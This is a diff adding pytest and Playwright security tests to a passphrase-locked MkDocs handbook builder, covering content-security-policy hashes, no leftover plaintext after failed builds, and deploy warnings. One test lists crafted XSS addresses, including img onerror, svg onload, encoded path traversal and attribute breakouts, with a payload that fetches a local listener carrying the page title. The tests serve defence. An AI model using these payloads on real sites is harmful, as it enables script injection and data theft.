@@ -4,12 +4,19 @@ works in Chromium as the open one does — search, navigation, drill, PDF — al
 from __future__ import annotations
 
 import base64
+import hashlib
+import http.server
 import io
 import json
 import re
 import shutil
 import subprocess
+import sys
+import tempfile
+import threading
+import urllib.parse
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pypdf
@@ -18,17 +25,20 @@ from browser import chromium, static_server
 from conftest import ROOT, SHIPPED, copy_project
 from cryptography.exceptions import InvalidTag
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM
-from playwright.sync_api import Browser, BrowserContext, Page
+from playwright.sync_api import Browser, BrowserContext, Page, Request
 from prep_handbook.private import (
     ITERATIONS,
     MAGIC,
     PassphraseError,
     check_passphrase,
     derive_key,
+    inline_script_hashes,
+    page_policy,
     seal,
+    unlock_page,
     unseal,
 )
-from sitekit import article, run_mkdocs, visible_text
+from sitekit import article, build_site, run_mkdocs, visible_text
 from test_phone import _type_search
 
 PASSPHRASE = "correct horse battery staple"
@@ -57,12 +67,26 @@ def _project(base: Path, private: bool) -> Path:
         base, {"traba-preparation.md": SHIPPED.read_bytes(), "kestrel.md": SECOND}
     )
     if private:
-        config = project / "mkdocs.yml"
-        text = config.read_text("utf-8").replace(
-            "    paper: letter", "    private: true\n    paper: letter"
-        )
-        config.write_text(text, "utf-8")
+        _go_private(project)
     return project
+
+
+def _go_private(project: Path) -> None:
+    config = project / "mkdocs.yml"
+    text = config.read_text("utf-8").replace(
+        "    paper: letter", "    private: true\n    paper: letter"
+    )
+    config.write_text(text, "utf-8")
+
+
+def _notes_in(folder: Path) -> list[str]:
+    """Every word of the notes found in any byte of any file (or file name) under ``folder``."""
+    found = []
+    for path in (p for p in folder.rglob("*") if p.is_file()):
+        rel = path.relative_to(folder).as_posix()
+        text = path.read_bytes().decode("latin-1").lower()
+        found += [f"{s!r} in {rel}" for s in SECRETS if s.lower() in text or s.lower() in rel]
+    return found
 
 
 def _mkdocs(project: Path, passphrase: str | None) -> subprocess.CompletedProcess[str]:
@@ -151,6 +175,27 @@ def test_seal_layout_and_tampering() -> None:
             unseal(key, "a/index.html", bytes(broken))
 
 
+def test_page_policy_allows_the_built_inline_scripts_and_nothing_else() -> None:
+    html = (
+        "<script>var a = 1 < 2;</script><script src='x.js'></script>"
+        '<script type="application/json">{"not": "run"}</script>'
+        '<script type="module">import "./m.js";</script><p onclick="no()">x</p>'
+    )
+    digest = {
+        base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()
+        for t in ("var a = 1 < 2;", 'import "./m.js";')
+    }
+    assert inline_script_hashes(html) == digest
+    policy = page_policy(digest)
+    assert policy.startswith("default-src 'self'; script-src 'self' 'sha256-")
+    assert all(f"'sha256-{d}'" in policy for d in digest)
+    assert "object-src 'none'; base-uri 'none'" in policy and "unsafe" not in policy
+    unlock = unlock_page("../")
+    style = unlock[unlock.index("<style>") + 7 : unlock.index("</style>")]
+    style_hash = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert f"style-src 'sha256-{style_hash}'" in unlock and "<script>" not in unlock
+
+
 @pytest.mark.parametrize(
     "weak", [None, "", "hunter2", "aaaaaaaaaaaaaaaaaaaaaaaa", "fifteen chars.."]
 )
@@ -171,6 +216,82 @@ def test_no_or_short_passphrase_fails_in_one_line_and_writes_no_notes(
     assert len(errors) == 1 and "PREP_HANDBOOK_PASSPHRASE" in errors[0]
     assert "Traceback" not in result.stderr
     assert not (project / "site").exists()
+
+
+def test_a_failed_private_build_leaves_no_readable_notes_in_site(tmp_path: Path) -> None:
+    """A plain build, then private: true and a build that fails (no passphrase, a weak one):
+    the plain site must not stay there to be uploaded. A locked build is kept as it is."""
+    project = _project(tmp_path / "p", private=False)
+    site = project / "site"
+    assert _mkdocs(project, None).returncode == 0
+    assert len(_notes_in(site)) > 10  # the plain build is full of the notes
+    _go_private(project)
+    result = _mkdocs(project, None)
+    errors = [line for line in result.stderr.splitlines() if line.startswith("ERROR")]
+    assert result.returncode == 1 and len(errors) == 1, result.stderr
+    assert "PREP_HANDBOOK_PASSPHRASE is not set" in errors[0]
+    assert "held an unlocked build and was removed, so no notes stay readable there" in errors[0]
+    assert not site.exists()
+    assert _mkdocs(project, PASSPHRASE).returncode == 0
+    locked = sorted(p.relative_to(site) for p in site.rglob("*"))
+    result = _mkdocs(project, "hunter2")
+    assert result.returncode == 1 and "was removed" not in result.stderr
+    assert sorted(p.relative_to(site) for p in site.rglob("*")) == locked
+    assert not _notes_in(site)
+    assert not list(site.parent.glob(".site-*"))  # no staging folder left beside it
+
+
+def test_a_lock_that_fails_part_way_leaves_no_plain_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The plain site is written into a private temporary folder, locked there, and only then
+    swapped in: a failure in the middle of locking leaves site/ as it was, and no plain copy."""
+    import prep_handbook.private as private
+
+    project = _project(tmp_path / "p", private=False)
+    site = project / "site"
+    assert _mkdocs(project, None).returncode == 0
+    _go_private(project)
+    temporary = tmp_path / "tmp"
+    temporary.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
+    monkeypatch.setenv("PREP_HANDBOOK_PASSPHRASE", PASSPHRASE)
+    sealed: list[str] = []
+    real_seal = private.seal
+
+    def failing_seal(key: bytes, path: str, data: bytes, nonce: bytes) -> bytes:
+        sealed.append(path)
+        if len(sealed) == 6:
+            raise OSError(28, "No space left on device")
+        return real_seal(key, path, data, nonce)
+
+    monkeypatch.setattr(private, "seal", failing_seal)
+    with pytest.raises(OSError, match="No space left"):
+        build_site(project)
+    assert len(sealed) == 6
+    assert not site.exists()  # the earlier plain build: removed before anything was built
+    assert not list(temporary.iterdir())  # the half-locked folder is gone too
+    monkeypatch.setattr(private, "seal", real_seal)
+    build_site(project)
+    assert (site / "assets/lock/lock.json").is_file() and not _notes_in(site)
+    assert not list(temporary.iterdir()) and not list(project.glob(".site-*"))
+
+
+def test_gh_deploy_of_an_open_build_warns(tmp_path: Path) -> None:
+    project = _project(tmp_path / "p", private=False)
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    result = subprocess.run(  # a repository with no remote: nothing can be pushed anywhere
+        [sys.executable, "-m", "mkdocs", "gh-deploy", "--ignore-version"],
+        cwd=project,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        stdin=subprocess.DEVNULL,
+        env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
+    )
+    warnings = [line for line in result.stderr.splitlines() if "publishes this handbook" in line]
+    assert len(warnings) == 1 and warnings[0].startswith("WARNING"), result.stderr
+    assert "unlocked: anyone with the address can read the notes" in warnings[0]
 
 
 # --- in the browser ------------------------------------------------------------------------
@@ -296,6 +417,124 @@ def test_lock_forgets_the_key_on_this_device(unlocked: tuple[BrowserContext, str
     page.close()
 
 
+# A crafted link, opened on a device that unlocked once, must run nothing: the worker can read
+# every note, so script on this origin could send them anywhere. Each address below carries a
+# payload that, if it ran, would set a flag, open a dialog and send a request to another port.
+_PAYLOAD = (  # no "/" of its own, so that it also reaches the worker as one path segment
+    "s=String.fromCharCode(47);fetch('http:'+s+s+'127.0.0.1:{port}'+s+document.title);"
+    "window.__pwned=1;alert(1)"
+)
+_CRAFTED = (
+    # encoded "?" and "#": once turned into a real query or fragment by a decoding worker
+    "notes-2/questions/index.html%3F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
+    "notes-2/questions/index.html%23%3Csvg%20onload%3D{js}%3E",
+    "notes-2/questions/%3F%3Csvg%2Fonload%3D{js}%3E/",
+    # an encoded "/" and a climb out of the folder
+    "notes-2%2Fquestions%2F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
+    "notes-2/%2e%2e%2f%2e%2e%2fassets%2Flock%2F%3Csvg%20onload%3D{js}%3E",
+    # quotes to close an attribute, markup in a folder name and in a file name
+    "notes-2/%22%27%3E%3Cimg%20src%3Dx%20onerror%3D{js}%3E/",
+    "%3Csvg%20onload%3D{js}%3E/",
+    "notes-2/questions/%3Cimg%20src%3Dx%20onerror%3D{js}%3E.html",
+    "notes-2/questions/%3Csvg%20onload%3D{js}%3E.svg",
+    # the same, unencoded, as a browser sends what is typed or linked
+    "notes-2/<img src=x onerror={js}>/",
+    # a real query and fragment on a real page
+    "notes-2/questions/?q=%3Cimg%20src%3Dx%20onerror%3D{js}%3E#%3Csvg%20onload%3D{js}%3E",
+)
+
+
+@contextmanager
+def _listening() -> Iterator[tuple[str, list[str]]]:
+    """Another origin (a port of its own) that records every request it gets."""
+    heard: list[str] = []
+
+    class Ear(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield str(server.server_address[1]), heard
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("crafted", _CRAFTED)
+def test_a_crafted_address_runs_no_script_after_an_unlock(
+    unlocked: tuple[BrowserContext, str], crafted: str
+) -> None:
+    context, url = unlocked
+    with _listening() as (port, heard):
+        js = urllib.parse.quote(_PAYLOAD.format(port=port), safe="")
+        address = url + crafted.format(js=js)
+        requests: list[str] = []
+
+        def record(request: Request) -> None:
+            requests.append(request.url)
+
+        context.on("request", record)
+        page = context.new_page()
+        dialogs: list[str] = []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(address)
+        page.wait_for_load_state("load")
+        page.wait_for_timeout(500)  # an onerror or a fetch would have fired by now
+        pwned = page.evaluate("window.__pwned")
+        body = page.content()
+        page.close()
+        context.remove_listener("request", record)
+    assert pwned is None and not dialogs and not heard, (crafted, body[:300])
+    foreign = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
+    assert not foreign, foreign
+    assert "<img src=x" not in body.lower() and "<svg onload" not in body.lower()
+
+
+def test_worker_responses_carry_a_policy_and_files_are_sandboxed(
+    unlocked: tuple[BrowserContext, str],
+) -> None:
+    """Every page the worker decrypts has the build's policy (scripts: its own files and the
+    theme's inline scripts by hash); any other decrypted file a sandbox, and no page breaks it."""
+    context, url = unlocked
+    page = context.new_page()
+    violations: list[str] = []
+    page.on(
+        "console",
+        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
+    )
+    heads = {}
+    for path in ("notes-2/questions/", "notes-1/", "no-such/page/"):
+        response = page.goto(url + path)
+        assert response is not None
+        heads[path] = response.all_headers()
+        page.wait_for_selector("article")
+    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
+        heads[path] = dict(
+            page.evaluate(f"fetch('{url}{path}').then(r => [...r.headers])")  # as decrypted
+        )
+    page.goto(url + "notes-2/")
+    _type_search(page, "forecasting")  # the search worker and its index run under the policy
+    page.locator(".md-search-result__item").first.wait_for(state="visible", timeout=15_000)
+    page.close()
+    for path in ("notes-2/questions/", "notes-1/", "no-such/page/"):
+        policy = heads[path]["content-security-policy"]
+        assert "default-src 'self'" in policy and "object-src 'none'" in policy, path
+        assert "base-uri 'none'" in policy and "img-src 'self' data:" in policy
+        assert re.search(r"script-src 'self'( 'sha256-[A-Za-z0-9+/=]{44}')+;", policy)
+        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
+    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
+        assert heads[path]["content-security-policy"].startswith("sandbox;"), path
+        assert heads[path]["x-content-type-options"] == "nosniff"
+    assert not violations, violations
+
+
 @pytest.mark.parametrize("tamper", ["flip", "swap"])
 def test_a_tampered_file_is_refused_not_shown(
     sites: dict[str, Path], browser: Browser, tmp_path: Path, tamper: str
@@ -353,7 +592,7 @@ def test_unlock_cost_is_reported(sites: dict[str, Path], browser: Browser) -> No
         context = browser.new_context()
         page = context.new_page()
         _unlock(page, url)
-        page.wait_for_function("document.documentElement.dataset.deriveMs !== undefined")
+        page.wait_for_function("() => document.documentElement.dataset.deriveMs !== undefined")
         derive_ms = int(page.evaluate("document.documentElement.dataset.deriveMs"))
         context.close()
     print(f"\nunlock: PBKDF2-HMAC-SHA256 600,000 iterations in Chromium: {derive_ms} ms")
